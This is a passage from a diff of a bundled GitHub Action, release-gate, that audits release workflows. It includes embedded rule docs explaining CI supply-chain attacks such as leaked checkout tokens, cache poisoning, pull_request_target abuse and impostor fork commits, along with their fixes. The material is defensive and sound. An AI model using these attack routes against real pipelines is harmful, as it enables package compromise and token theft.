-        `<details><summary>${f.severity}: ${escapeHtml(f.rule)} at ${escapeHtml(where_location(f))}</summary>`,
+    return [
+        `<details><summary>${escapeHtml(f.rule)} at ${escapeHtml(where_location(f))}</summary>`,
         '',
+        `- Chain: ${md(chainText(f))}`,
         `- ${md(f.message)}`,
-        ...(f.chain.length ? [`- Chain: ${md(chainText(f))}`] : []),
         `- Fix: ${md(f.fix)}`,
-        `- Rule: [${f.rule}](${f.docs})`,
         '',
         '</details>',
-    ];
-    return lines.join('\n');
+    ].join('\n');
 }
+const SUPPRESS = 'To accept a finding instead of fixing it, say why on its line: `# release-gate: ignore[<rule>] -- <reason>` (the reason is shown here, under Ignored), or list its `path:line` under `rules.<rule>.ignore` in `.github/release-gate.yml`.';
 function renderSummary(r, ctx = {}) {
+    const mode = ctx.mode ?? 'full';
+    const links = ctx.links;
     const out = [`## ${verdictLine(r)}`, ''];
-    const scope = r.files
-        .map((f) => `${code(f.file)}: ${f.targets.length ? `guarding ${f.targets.map((t) => code(t)).join(', ')}` : f.scope}${f.jobs.length > f.targets.length ? `, with ${f.jobs.filter((j) => !f.targets.includes(j)).map((j) => code(j)).join(', ')}` : ''}`)
-        .join('; ');
-    if (scope)
-        out.push(`Audited ${md(scope)}.`, '');
-    const blocking = r.findings.filter((f) => f.blocking);
-    const other = r.findings.filter((f) => !f.blocking && !f.ignored);
+    const active = r.findings.filter((f) => !f.ignored);
+    const failed = active.filter((f) => f.rule === 'check-failed');
+    const blocking = active.filter((f) => f.blocking && f.rule !== 'check-failed');
+    const other = active.filter((f) => !f.blocking && f.rule !== 'check-failed');
     const ignored = r.findings.filter((f) => f.ignored);
+    if (mode === 'failures' && r.verdict === 'pass')
+        return out.join('\n');
+    if (mode === 'full') {
+        const scope = r.files
+            .map((f) => `${code(f.file)}: ${f.targets.length ? `guarding ${f.targets.map((t) => code(t)).join(', ')}` : f.scope}${f.jobs.length > f.targets.length ? `, with ${f.jobs.filter((j) => !f.targets.includes(j)).map((j) => code(j)).join(', ')}` : ''}`)
+            .join('; ');
+        if (scope)
+            out.push(`Audited ${md(scope)}.`, '');
+    }
+    // report mode: what would block once enforced reads like the blocking table does
+    const wouldBlock = r.failOn === 'never' ? other.filter((f) => f.severity === 'error') : [];
+    const below = other.filter((f) => !wouldBlock.includes(f));
+    if (wouldBlock.length) {
+        out.push(`Report mode (\`fail-on: never\`): ${plural(wouldBlock.length, 'finding')} would block with \`fail-on: error\`. Fix them, then remove \`fail-on: never\` to enforce.`, '');
+    }
     if (blocking.length)
-        out.push('### Blocking', '', ...table(blocking), '');
-    if (other.length)
-        out.push(`### Not blocking (below \`fail-on: ${r.failOn}\`)`, '', ...table(other), '');
-    if (ctx.attest) {
+        out.push('### What to do', '', 'Most dangerous first.', '', ...table(blocking, links), '');
+    if (wouldBlock.length && mode === 'full')
+        out.push('### What to do before enforcing', '', 'Most dangerous first.', '', ...table(wouldBlock, links), '');
+    if (blocking.length || (other.length && mode === 'full'))
+        out.push(SUPPRESS, '');
+    if (failed.length)
+        out.push('### Could not check', '', `These block until they can be checked${failed.some((f) => !f.blocking) ? ' (in enforcing mode)' : ''}.`, '', ...couldNotCheck(failed, links), '');
+    if (below.length && mode === 'full')
+        out.push(`### Not blocking (below \`fail-on: ${r.failOn === 'never' ? 'error' : r.failOn}\`)`, '', ...table(below, links), '');
+    if (ctx.attest && (mode === 'full' || ctx.attest.files.some((f) => f.verdict !== 'verified') || ctx.attest.files.length === 0)) {
         out.push('### Artifacts', '');
         if (ctx.attest.files.length === 0)
             out.push(`No file matched ${md(ctx.attest.patterns.map((p) => code(p)).join(', '))}.`, '');
@@ -38046,6 +42812,8 @@ function renderSummary(r, ctx = {}) {
             out.push('');
         }
     }
+    if (mode === 'failures')
+        return out.join('\n');
     if (r.skipped.length) {
         out.push('### Not checked', '');
         for (const s of r.skipped)
@@ -38062,7 +42830,7 @@ function renderSummary(r, ctx = {}) {
     if (ignored.length) {
         out.push('### Ignored', '', '| Rule | Where | Reason |', '| --- | --- | --- |');
         for (const f of ignored)
-            out.push(`| ${f.rule} | ${md(code(where_location(f)), true)} | ${md(`${f.ignored.by}: ${f.ignored.reason}`, true)} |`);
+            out.push(`| ${f.rule} | ${where(f, links)} | ${mdCell(`${f.ignored.by}: ${f.ignored.reason}`)} |`);
         out.push('');
     }
     if (r.disabled.length)
@@ -38086,14 +42854,14 @@ function renderSummary(r, ctx = {}) {
     }
     if (ctx.tree)
         tail.unshift('<details><summary>Dependency tree</summary>', '', '```text', ctx.tree.replace(/```/g, "'''").trimEnd(), '```', '', '</details>', '');
-    // Details come last and are the first thing cut when the summary would be too large.
-    const det = r.findings.filter((f) => !f.ignored).map(details);
+    // Details (chains) come last and are the first thing cut when the summary would be too large.
+    const det = active.filter((f) => f.chain.length > 0).map(details);
     let body = out.join('\n');
     const tailText = tail.join('\n');
     if (det.length) {
-        let block = `### Details\n\n${det.join('\n')}\n`;
+        let block = `### Chains\n\nHow each transitive finding is reached from the workflow.\n\n${det.join('\n')}\n`;
         if (Buffer.byteLength(body + block + tailText) > MAX_SUMMARY) {
-            block = `### Details\n\n${det.length} findings; details left out to keep the summary under GitHub's size limit (see the JSON report).\n`;
+            block = `### Chains\n\n${det.length} chains left out to keep the summary under GitHub's size limit (see the JSON report).\n`;
         }
         body += `\n${block}\n`;
     }
@@ -38135,17 +42903,113 @@ function toJson(r, extra = {}) {
     }, null, 2) + '\n');
 }
 
+;// CONCATENATED MODULE: ./src/report/rule-docs.generated.ts
+// Generated by scripts/rule-docs.mjs from docs/rules/*.md: do not edit, do not commit.
+const RAW = "{\"artipacked\":\"# artipacked\\n\\nCheckout leaves the token in the workspace.\\n\\n| | |\\n| --- | --- |\\n| Applies to | `actions/checkout` in the publishing job and the jobs it needs |\\n| Needs | the workflow file only (offline) |\\n| Default severity | warning; error when the job uploads the workspace |\\n| Configurable | `rules.artipacked.*` |\\n| Example | [`test/fixtures/workflows/artipacked/positive.yml`](../../test/fixtures/workflows/artipacked/positive.yml) |\\n\\n## What it detects\\n\\n`actions/checkout` without `persist-credentials: false`. It is an **error** when the same job\\nuploads the workspace root (`path: .`, `*`, `${{ github.workspace }}`, `.git`) with an\\n`actions/upload-artifact` that includes hidden files — v3 and older, or v4+ with\\n`include-hidden-files: true` — and a **warning** otherwise: the token is still readable by\\nevery later step of the job (install scripts, build tools).\\n\\n## Why it matters\\n\\ncheckout writes the job's token into `.git/config`. Unit 42's \\\"ArtiPACKED\\\" research (2024)\\nfound it inside public artifacts of major projects, usable by anyone who downloaded them while\\nthe job ran. In a release job, the same token is within reach of every dependency installed\\nafter the checkout.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n      - uses: actions/checkout@<sha> # v5.0.0\\n```\\n\\nAfter:\\n\\n```yaml\\n      - uses: actions/checkout@<sha> # v5.0.0\\n        with:\\n          persist-credentials: false\\n```\\n\\nA step that must push can be given the token explicitly (`GH_TOKEN: ${{ github.token }}`).\\n\\n## Ignoring\\n\\n```yaml\\n      - uses: actions/checkout@<sha> # release-gate: ignore[artipacked] -- changesets pushes the version branch\\n```\\n\",\"cache-poisoning\":\"# cache-poisoning\\n\\nCache restored into a release build.\\n\\n| | |\\n| --- | --- |\\n| Applies to | cache-aware steps in the publishing job and the jobs it needs (local composite actions included) |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error; warning when the cache depends on a file the gate cannot see, or on a version the pin does not say |\\n| Configurable | `rules.cache-poisoning.*` |\\n| Example | [`positive.yml`](../../test/fixtures/workflows/cache-poisoning/positive.yml), [`toolchains.yml`](../../test/fixtures/workflows/cache-poisoning/toolchains.yml), [`toggles.yml`](../../test/fixtures/workflows/cache-poisoning/toggles.yml) |\\n\\n## What it detects\\n\\nA step that restores a GitHub Actions cache (or another cache every workflow of the\\nrepository can write) into the publishing job or a job it needs. What each action restores,\\nthrough which input, and by default from which version, is data in the catalogue\\n(`src/workflow/catalogue.ts`, `CacheFacts`), read from each action's own `action.yml` and\\nsource at its tags:\\n\\n| action | restores when | restores nothing when |\\n| --- | --- | --- |\\n| `actions/cache`, `actions/cache/restore` | always | `lookup-only: true` |\\n| `actions/setup-python`, `setup-java`, `graalvm/setup-graalvm` | `cache:` names a tool | — |\\n| `actions/setup-dotnet` | `cache: true` | — |\\n| `actions/setup-node` | `cache:` is set; v5+ also by default when package.json names a `packageManager` (warning) | `package-manager-cache: false` (the default only) |\\n| `actions/setup-go` | v4+ by default; v3 when `cache: true` | `cache: false` |\\n| `astral-sh/setup-uv` | `enable-cache: true`; v5–v9 `auto` (the default) on **every** event; v10+ `auto` on every event but `release`, tag pushes, `pull_request_target`, `workflow_run`; v1–v4 off by default | `enable-cache: false`; `restore-cache: false` (v7+) |\\n| `ruby/setup-ruby` | `bundler-cache: true` | — |\\n| `Swatinem/rust-cache` | always | `lookup-only: true` |\\n| `actions-rust-lang/setup-rust-toolchain` | by default | `cache: false` |\\n| `oven-sh/setup-bun` | always (the Bun binary) | `no-cache: true` |\\n| `mlugg/setup-zig`, `goto-bus-stop/setup-zig` | by default | `use-cache: false` / `cache: false` |\\n| `docker/setup-buildx-action` | v3.1+ by default (the buildx binary) | `cache-binary: false` |\\n| `gradle/actions/setup-gradle`, `gradle/gradle-build-action` | always | `cache-disabled: true`, `cache-write-only: true` |\\n| `jdx/mise-action` | by default | `cache: false` |\\n| `prefix-dev/setup-pixi` | by default when `pixi.lock` exists (warning) | `cache: false` |\\n| `PyO3/maturin-action` | `sccache: true` | — |\\n| `Mozilla-Actions/sccache-action` | `SCCACHE_GHA_ENABLED` set in the workflow's, the job's or a step's `env:`, or written to `$GITHUB_ENV` | the variable unset or false |\\n| `hendrikmuhs/ccache-action` | always | `restore: false` |\\n| `ramsey/composer-install` | always | `ignore-cache: true` |\\n| `DeterminateSystems/magic-nix-cache-action` | by default; `use-gha-cache: enabled`/`true` | `use-gha-cache: disabled`/`false` |\\n| `nix-community/cache-nix-action` | always | `lookup-only: true` with no `restore-prefixes-*` |\\n| `awalsh128/cache-apt-pkgs-action` | always | — |\\n| `docker/build-push-action` | `cache-from:` is set | — |\\n\\n**Toggles written as expressions are evaluated** with GitHub's expression rules on each\\nevent that can reach the release (the job's and the step's `if:`, and the jobs it needs, are\\nevaluated too) and on each leg of the job's matrix. `sccache: ${{ startsWith(github.ref,\\n'refs/tags/') }}` is on for a tag push and is reported; `sccache: ${{ !startsWith(github.ref,\\n'refs/tags/') }}` in a workflow whose release job runs only for tags is not. A cache is judged\\nonly on the events on which a guarded (publishing) job also runs: a test job that restores a\\ncache on pull requests, in a workflow that publishes only on tags, poisons no release. A\\ntoggle that cannot be decided before the run (a step output, an input of a composite action\\nthe gate cannot bind) is reported as an error that says so.\\n\\n**Versions.** The version is the tag, or the `# vX.Y.Z` comment beside a SHA pin (`v3.0.0` and\\n`v3.1` are told apart where a default changed in a minor release; a floating `v3` is its newest\\nrelease). A SHA pin without a version comment is read at the action's most dangerous version\\nand reported as a **warning** that says so; add the comment to get the exact verdict.\\n\\nThe finding points at the input (or the `env:` entry, or the `$GITHUB_ENV` line) that turns\\nthe cache on, so an ignore comment there applies.\\n\\n**Not detected:** caches restored by scripts (`gh cache`, `curl` to the cache API, `sccache`\\nstarted by hand without the action), caches of actions the catalogue does not know (add them\\nwith a fixture), Docker layer caches other than `cache-from:`, and the state of a cache (an\\nempty cache restores nothing, but the gate cannot know that). A composite action's caching\\nsteps are read when the action is local; a remote composite action's steps are not.\\n\\n### Where release-gate differs from zizmor, on purpose\\n\\n- **Only what reaches a release.** zizmor reports a cache in a job it judges \\\"publishing\\\"\\n  from the workflow's triggers; release-gate reports a cache in the publishing job and the\\n  jobs it needs, and only on the events on which the publishing job runs. A cache in a test\\n  job that the release does not need is not reported.\\n- **Per-event evaluation.** zizmor recognises some guards\\n  (`!startsWith(github.ref, 'refs/tags/')`); release-gate evaluates the whole expression on\\n  each reachable event and matrix leg, so a guard written another way (`github.ref_type !=\\n  'tag'`, `github.event_name != 'release'`) is read too, and an inverted toggle is not missed.\\n- **Versions from the actions' own releases.** setup-uv v5–v9 restore on release and tag\\n  events; only v10 stops. A pin without a version is read at its most dangerous version, as a\\n  warning, rather than at the newest.\\n- **Errors block.** A cache in a release is an error (it blocks), not a finding for review.\\n\\n## Jobs that hand nothing to the release\\n\\nA cache in a job the publishing job `needs` is an error when that job hands the release\\nsomething: it uploads an artifact, saves a cache, publishes, or the publishing job reads its\\noutputs (`needs.<id>.outputs`). A test gate or a release-note builder does none of these, so a\\npoisoned cache there cannot reach the package: a warning. Inside a local composite action the\\ncaller's `with:` values and the input defaults are evaluated into the toggle\\n(`cache: ${{ inputs.skip-cache != 'true' && 'pnpm' || '' }}` with `skip-cache: true` is off),\\nand a finding there is reported once, naming every job that reaches it. A composite action\\naudited on its own gets a warning: the release workflow that calls it is where it blocks.\\n\\n## Why it matters\\n\\nCaches are shared across a repository's workflows by branch scope: a workflow that runs\\nuntrusted code on the default branch (a `pull_request_target` job, a compromised test\\ndependency) can write a cache entry that the release job later restores and executes. The\\nUltralytics 8.3.41 and 8.3.42 wheels (December 2024) were built from a poisoned cache.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n      - uses: actions/setup-python@<sha> # v6.0.0\\n        with:\\n          cache: pip\\n```\\n\\nAfter:\\n\\n```yaml\\n      - uses: actions/setup-python@<sha> # v6.0.0\\n```\\n\\nA release build should start from nothing another workflow could have written; it is slower\\nby a minute and safer.\\n\\n## Ignoring\\n\\n```yaml\\n          enable-cache: true # release-gate: ignore[cache-poisoning] -- this job only tests; its output is not published\\n```\\n\",\"check-failed\":\"# check-failed\\n\\nA check could not be carried out.\\n\\n| | |\\n| --- | --- |\\n| Applies to | every run |\\n| Needs | — |\\n| Default severity | error |\\n| Configurable | `rules.check-failed.severity` (lowering it lets unchecked releases through) |\\n| Example | `test/e2e/action.test.ts` (\\\"fails closed when the API cannot be reached\\\") |\\n\\n## What it detects\\n\\nSomething the gate needed could not be had: the running workflow could not be read through the\\nAPI (outage, 404, missing `contents: read`), the config file could not be read, the workflow's\\nYAML could not be parsed, the running job is not in the workflow, offline mode with nothing\\nchecked out, or a rule itself failed. The message names the check and the reason; the fix says\\nwhat to do.\\n\\n## Why it matters\\n\\nA gate that passes when it could not look is worse than no gate: it tells the maintainer the\\nrelease is safe when nobody checked. In enforcing mode (`fail-on: error` or `warning`) these\\nfindings block; with `fail-on: never` they are still reported.\\n\\n## How to fix\\n\\nFollow the fix in the finding. The usual causes:\\n\\n- the job's `permissions:` do not include `contents: read` — add it:\\n\\n  ```yaml\\n      permissions:\\n        contents: read\\n        id-token: write\\n  ```\\n\\n- GitHub's API is having an outage — re-run the job later;\\n- `offline: true` in a job where nothing is checked out — set `offline: false`.\\n\\n## Ignoring\\n\\nNot by comment (there is no line to put it on). To accept unchecked releases, lower the severity\\nin the config file, knowingly:\\n\\n```yaml\\nrules:\\n  check-failed:\\n    severity: warning\\n```\\n\",\"dangerous-triggers\":\"# dangerous-triggers\\n\\nUntrusted trigger reaches the publishing job.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the workflow's `on:` and the `if:` of the publishing job and the jobs it needs |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error (warning for `workflow_run` whose upstream does not run on pull requests, or cannot be read) |\\n| Configurable | `rules.dangerous-triggers.*` |\\n| Example | [`test/fixtures/workflows/dangerous-triggers/positive.yml`](../../test/fixtures/workflows/dangerous-triggers/positive.yml) |\\n\\n## What it detects\\n\\nA trigger through which people outside the project start the workflow with the base\\nrepository's secrets — `pull_request_target`, `workflow_run`, `issue_comment`, `issues`,\\n`pull_request_review`, `pull_request_review_comment`, `discussion`, `discussion_comment` —\\nthat can reach the publishing job.\\n\\n\\\"Can reach\\\" is decided by evaluating the job's `if:` and the `if:` of every job it `needs:`\\nfor each trigger: `if: github.event_name == 'push' && startsWith(github.ref, 'refs/tags/')`\\nexcludes `pull_request_target`. A condition that cannot be decided before the run (it reads\\n`github.repository`, an output, a variable) is taken as \\\"may run\\\", never as false.\\n\\nFor `workflow_run`, release-gate reads the workflows it follows (same repository): if one of\\nthem runs on pull requests, a fork's pull request can produce what is published (error);\\notherwise, or when they cannot be read, it is a warning.\\n\\nWhen no job publishes, every job is judged.\\n\\n## Severity\\n\\nAn error when a dangerous trigger can reach a publishing job. In a workflow where nothing\\npublishes (a labeller, a title linter), it is an error only when the jobs it reaches hold what\\na release is made with: a secret other than `GITHUB_TOKEN`, `secrets: inherit`, the\\nrepository's default token, or a write token for `contents`, `packages`, `id-token`, `actions`\\nor `deployments` (the Kong case of December 2024); otherwise a warning. The message says which\\ntoken `pull_request_target` hands out: a write token, a read-only token, or the repository's\\ndefault.\\n\\nInside a job it also reads the event that actually started the run (the signed `event_name`\\nclaim, else `GITHUB_EVENT_NAME`; inside a reusable workflow, the caller's event). When an\\noutsider can start that event (`pull_request_target`, `issue_comment`, `issues`, reviews,\\ndiscussions, or `workflow_run` following a pull request or a run whose event could not be\\nread), the job running the gate is about to publish from it: an error, whatever its `if:`\\nconditions say.\\n\\n## Why it matters\\n\\n`pull_request_target` and `workflow_run` run in the base repository with its secrets and a\\nwrite token, started by events anyone can cause. The Ultralytics compromise (December 2024)\\nbegan with a `pull_request_target` workflow; Kong's ingress controller image (December 2024)\\nwas published with a token reached the same way.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\non:\\n  workflow_run:\\n    workflows: [CI]\\n    types: [completed]\\n```\\n\\nAfter:\\n\\n```yaml\\non:\\n  release:\\n    types: [published]\\n```\\n\\nBuild the artifacts in the release workflow (or verify their attestations) instead of taking\\nthem from another run.\\n\\n## Ignoring\\n\\n```yaml\\n  workflow_run: # release-gate: ignore[dangerous-triggers] -- CI runs only on push to main; artifacts are attested and verified\\n```\\n\",\"excessive-permissions\":\"# excessive-permissions\\n\\nToken permissions broader than the release needs.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the workflow's top-level `permissions:`, the publishing job and the jobs it needs |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error; warning for a grant no job receives, `read-all`, release bots, `attestations: write`, and scopes a step the gate cannot read might use |\\n| Configurable | `rules.excessive-permissions.*` |\\n| Example | [`test/fixtures/workflows/excessive-permissions/positive.yml`](../../test/fixtures/workflows/excessive-permissions/positive.yml) |\\n\\n## What it detects\\n\\n- No top-level `permissions:` block: every job without its own block gets the repository's\\n  default token, which is read-write on older repositories and organisations.\\n- A top-level `write-all`, `read-all`, or any `write` scope: it reaches every job.\\n- A job in scope with `permissions: write-all`.\\n- In the publishing job, a `write` scope that none of its steps uses. release-gate knows what\\n  needs what:\\n  - `id-token: write` — trusted publishing (`pypa/gh-action-pypi-publish`, `npm publish`,\\n    `uv publish`, release-plz, `rubygems/release-gem`, crates-io-auth-action), attestation and\\n    signing actions, cloud OIDC logins;\\n  - `attestations: write` — `actions/attest-build-provenance`, `actions/attest`,\\n    `actions/attest-sbom`, build-and-inspect with `attest-build-provenance-github`;\\n  - `contents: write` — steps that create releases or push: `gh release create|upload|edit`,\\n    `softprops/action-gh-release`, `ncipollo/release-action`, goreleaser, `git push`;\\n  - `packages: write` — pushes to GitHub's registries (`ghcr.io`, `npm.pkg.github.com`, …).\\n- A build job in scope holding `id-token: write` without a step that signs or attests: any\\n  step in it can mint an OIDC token that PyPI or npm accept for this repository.\\n\\nRelease bots (changesets, release-plz, release-please, semantic-release) open release pull\\nrequests from the publishing job, which forces `contents`/`pull-requests: write` into it:\\nthat is reported as a **warning** with the explanation. An unused `attestations: write` is a\\nwarning too (it lets the job create attestations, nothing more).\\n\\nNot flagged: `read` and `none` scopes; scopes of a job that calls a reusable workflow from\\nanother repository (the called workflow decides; see the transitive checks).\\n\\n## Severity\\n\\n- **Top level.** No `permissions:` is an error only when some job has no block of its own (it\\n  gets the repository's default token, which may be read-write); when every job declares its\\n  own block it is a warning (SPEC 8 asks for a read-only top level; a job added later would get\\n  the default). A file that is only `workflow_call`ed is not judged: its token is capped by its\\n  caller's grant. A top-level write reaching some job is an error; one every job overrides, and\\n  `read-all`, are warnings.\\n- **Unused scopes.** What each step uses comes from the catalogue (`src/workflow/catalogue.ts`:\\n  actions such as `pypa/gh-action-pypi-publish`, `actions/publish-immutable-action`,\\n  `changesets/action`, CodeQL and scorecard uploads, github-script's REST calls; commands such\\n  as `gh release create`, `git push`, `npm publish`). An unused scope is an error only when\\n  every step of the job is known to the catalogue or is a script the gate can read; when a\\n  step is opaque (an action the catalogue does not know, `make ci-release`, a script handed the\\n  job's token that calls the API) it is a warning that names that step. A reusable-workflow\\n  call's grant is judged by what the called workflow's jobs use.\\n- **Wording.** \\\"Publishing job\\\" only for jobs that publish; in a workflow where nothing\\n  publishes, the job is called a job.\\n\\n## Why it matters\\n\\nA compromised dependency runs with the job's token. With `contents: write` it can push a tag\\nor rewrite a release; the TensorFlow supply-chain research (2024) reached releases through a\\nself-hosted runner and a write token. SPEC 8 asks for read-only top-level permissions and\\nleast privilege per job.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\npermissions: write-all           # ← every job can push\\n\\njobs:\\n  publish:\\n    permissions:\\n      contents: write            # ← nothing here creates a release\\n      id-token: write\\n```\\n\\nAfter:\\n\\n```yaml\\npermissions: {}\\n\\njobs:\\n  publish:\\n    permissions:\\n      id-token: write            # trusted publishing\\n```\\n\\n## Ignoring\\n\\n```yaml\\n      contents: write # release-gate: ignore[excessive-permissions] -- our release script pushes the changelog\\n```\\n\",\"gate-order\":\"# gate-order\\n\\nrelease-gate is not the first step.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the jobs the gate guards |\\n| Needs | the workflow file only (offline) |\\n| Default severity | warning; error when a step before the gate runs code |\\n| Configurable | `rules.gate-order.*` |\\n| Example | [`test/fixtures/workflows/gate-order/positive.yml`](../../test/fixtures/workflows/gate-order/positive.yml) |\\n\\n## What it detects\\n\\nA job that runs release-gate (found by `*/release-gate@…`, by `GITHUB_ACTION_REPOSITORY`\\ninside a job, or by `uses: ./` in this repository) with other steps before it.\\n\\n## Why it matters\\n\\nThe gate decides before anything else in the job runs. A checkout, an install or any action\\nbefore it has already run — with the job's token and, in a publishing job, its OIDC\\npermission — and could have changed the workspace or the environment the gate inspects.\\nA step that runs code (`run:`, a Docker or local action, any action the catalogue does not\\nmark read-only) can rewrite the gate's own files under `_actions` before they run: that is\\nan error. Read-only steps (checkout, harden-runner, download-artifact) are a warning.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - uses: release-gate/release-gate@<sha>\\n```\\n\\nAfter:\\n\\n```yaml\\n    steps:\\n      - uses: release-gate/release-gate@<sha>\\n      - uses: actions/checkout@<sha>\\n```\\n\\n## Ignoring\\n\\n```yaml\\n      - uses: release-gate/release-gate@<sha> # release-gate: ignore[gate-order] -- the artifact download must come first\\n```\\n\",\"ignore-without-reason\":\"# ignore-without-reason\\n\\nIgnore comment without a reason.\\n\\n| | |\\n| --- | --- |\\n| Applies to | inline `# release-gate: ignore[...]` comments |\\n| Needs | the file only (offline) |\\n| Default severity | warning |\\n| Configurable | `rules.ignore-without-reason.*` |\\n| Example | [`test/fixtures/workflows/suppress/inline.yml`](../../test/fixtures/workflows/suppress/inline.yml) |\\n\\n## What it detects\\n\\n`# release-gate: ignore[rule]` with nothing after it. The ignore still applies; the missing\\nreason is reported so that reviewers see it. zizmor's form (`# zizmor: ignore[rule]`) is\\nreported only when it actually silences one of release-gate's findings.\\n\\n## Why it matters\\n\\nAn exception in a release workflow is a security decision. Without a reason, the next\\nmaintainer cannot tell a considered exception from a shortcut.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n      - uses: actions/setup-python@v5 # release-gate: ignore[unpinned-uses]\\n```\\n\\nAfter:\\n\\n```yaml\\n      - uses: actions/setup-python@v5 # release-gate: ignore[unpinned-uses] -- pinned by the org ruleset\\n```\\n\\n## Ignoring\\n\\nGive the reason; or turn the rule off with `rules.ignore-without-reason.disable: true`.\\n\",\"impostor-commit\":\"# impostor-commit\\n\\nPinned commit is not in the named repository.\\n\\n| | |\\n| --- | --- |\\n| Applies to | every SHA pin in scope, direct and transitive |\\n| Needs | the GitHub API (`contents: read`); \\\"not checked\\\" when offline |\\n| Default severity | error |\\n| Configurable | `rules.impostor-commit.*` |\\n| Example | [`test/fixtures/workflows/impostor-commit/positive.yml`](../../test/fixtures/workflows/impostor-commit/positive.yml) |\\n\\n## What it detects\\n\\n`owner/repo@<sha>` where no branch or tag of `owner/repo` contains the commit. GitHub serves\\nevery commit of a repository's fork network under the parent's name, so a commit pushed to a\\nfork can be referenced as if it were upstream. The commits endpoint answers for such SHAs, so\\nrelease-gate checks the tips of branches and tags first (one request in the usual case), then\\n`GET /repos/{o}/{r}/compare/{ref}...{sha}` (`behind` or `identical` means the ref contains\\nit) against the default branch and recent tags and branches. When it cannot decide, the check\\nfails closed (`check-failed`).\\n\\n## Why it matters\\n\\nA reviewer sees `actions/checkout@<40 hex> # v5.0.0` and approves. If the SHA is a fork's\\ncommit, the job runs the fork's code under the upstream's name. This was demonstrated against\\npopular actions in 2024 and is why Dependabot and pinning tools must verify reachability.\\n\\n## How to fix\\n\\nReplace the SHA with the commit a release tag of the repository points to\\n(`git ls-remote https://github.com/owner/repo refs/tags/v5.0.0`), and find out how the other\\none got there.\\n\\n## Ignoring\\n\\n```yaml\\n      - uses: owner/repo@<sha> # release-gate: ignore[impostor-commit] -- reason\\n```\\n\",\"integrity-mismatch\":\"# integrity-mismatch\\n\\nDownloaded action differs from the locked content.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the repository actions the runner downloaded for the job running the gate (`$RUNNER_WORKSPACE/../_actions/{owner}/{repo}/{ref}`) |\\n| Needs | inside a job; `gha.sum`, or the API (the commit's git tree) |\\n| Default severity | error |\\n| Configurable | `rules.integrity-mismatch.*` |\\n| Example | [`test/fixtures/workflows/integrity-mismatch/positive.yml`](../../test/fixtures/workflows/integrity-mismatch/positive.yml) |\\n\\n## What it detects\\n\\nBefore the first step, the runner downloads every repository action of the job — composite\\nchildren included — into `_actions/{owner}/{repo}/{ref}` and writes `{ref}.completed` beside\\nit. As the first step, release-gate compares each of those directories with what is locked:\\n\\n1. with `gha.sum`: Go's dirhash \\\"h1\\\" over the directory (every file, relative `/` paths\\n   sorted by bytes, lines `<hex sha256>  <path>\\\\n`, SHA-256 of the lines, base64 — written\\n   without the `h1:` prefix, as ghasum writes it) must equal the recorded value;\\n2. otherwise: every file's git blob SHA-1, path and kind must equal the tree of the locked\\n   commit (`actions.lock`, or the pinned SHA) from `GET /repos/{o}/{r}/git/trees/{commit}?recursive=1`,\\n   allowing for `export-ignore` and `export-subst` in the commit's `.gitattributes`, submodules,\\n   LFS files and symlinks, and walking sub-trees when the listing is truncated.\\n\\nA changed, missing or extra file is reported by path. A missing or unfinished download\\n(`.completed` absent) is `check-failed`.\\n\\n## Why it matters\\n\\nactions.lock records commit SHAs, not content, and GitHub enforces it on its servers; the runner\\nverifies nothing about what it unpacks. Comparing the bytes on disk with the locked commit\\ncatches a moved tag on an un-enforced run, a tampered download path, or a poisoned action cache\\non a self-hosted runner — before any of that code runs.\\n\\n## How to fix\\n\\nDo not publish from the run. Re-run the job; if the mismatch repeats, find out what changed\\n(the message names the files) before re-locking.\\n\\n## Ignoring\\n\\nNot inline: a mismatch is never expected. `rules.integrity-mismatch.disable` turns it off.\\n\",\"invalid-workflow\":\"# invalid-workflow\\n\\nValue of the wrong type or shape.\\n\\n| | |\\n| --- | --- |\\n| Applies to | workflows and action files |\\n| Needs | the file only (offline) |\\n| Default severity | error |\\n| Configurable | `rules.invalid-workflow.*` |\\n| Example | [`test/fixtures/workflows/invalid-workflow/positive.yml`](../../test/fixtures/workflows/invalid-workflow/positive.yml) |\\n\\n## What it detects\\n\\nParts of the file whose type does not match GitHub's workflow syntax: `permissions: 5`,\\n`steps: \\\"x\\\"`, `uses: [1]`, a step that is not a mapping, a `needs:` naming a job that does not\\nexist, a job with neither `steps:` nor `uses:`, a workflow without `on:` or `jobs:`. Each is\\nreported at its line; the rest of the file is still audited.\\n\\nNot reported here: YAML that cannot be parsed at all (bad indentation, unclosed brackets,\\nduplicate keys, several documents, alias bombs). That is an input error: the CLI exits 2 and the\\naction reports `check-failed`, naming the file and line.\\n\\n## GitHub's own parser\\n\\nBesides release-gate's own model, each workflow is read by GitHub's parser,\\n`@actions/workflow-parser` (the one behind GitHub's language services): an unknown key, a\\nmissing `on:` or `jobs:`, a value of the wrong type or an expression syntax error is reported\\nat its line, as GitHub would refuse it. From the CLI that is an error. Inside a running job\\nGitHub has already accepted the file, so a difference means the bundled parser lags GitHub's\\nlanguage: it is a warning and never blocks a release.\\n\\n## Why it matters\\n\\nA gate that cannot read a part of the workflow cannot judge it. GitHub either rejects such a\\nfile or reads it differently from how it looks; either way the gate must not pass it silently.\\n\\n## How to fix\\n\\nCorrect the value to the documented form, for example:\\n\\nBefore:\\n\\n```yaml\\npermissions: read\\n```\\n\\nAfter:\\n\\n```yaml\\npermissions:\\n  contents: read\\n```\\n\\n## Ignoring\\n\\n```yaml\\n# release-gate: ignore[invalid-workflow] -- reason\\n```\\n\",\"known-vulnerable-actions\":\"# known-vulnerable-actions\\n\\nAction version with a known vulnerability.\\n\\n| | |\\n| --- | --- |\\n| Applies to | every action in scope, direct and transitive |\\n| Needs | the GitHub API (public); \\\"not checked\\\" when offline |\\n| Default severity | error |\\n| Configurable | `rules.known-vulnerable-actions.*` |\\n| Example | [`test/fixtures/workflows/known-vulnerable-actions/positive.yml`](../../test/fixtures/workflows/known-vulnerable-actions/positive.yml) |\\n\\n## What it detects\\n\\nAn action at a version covered by 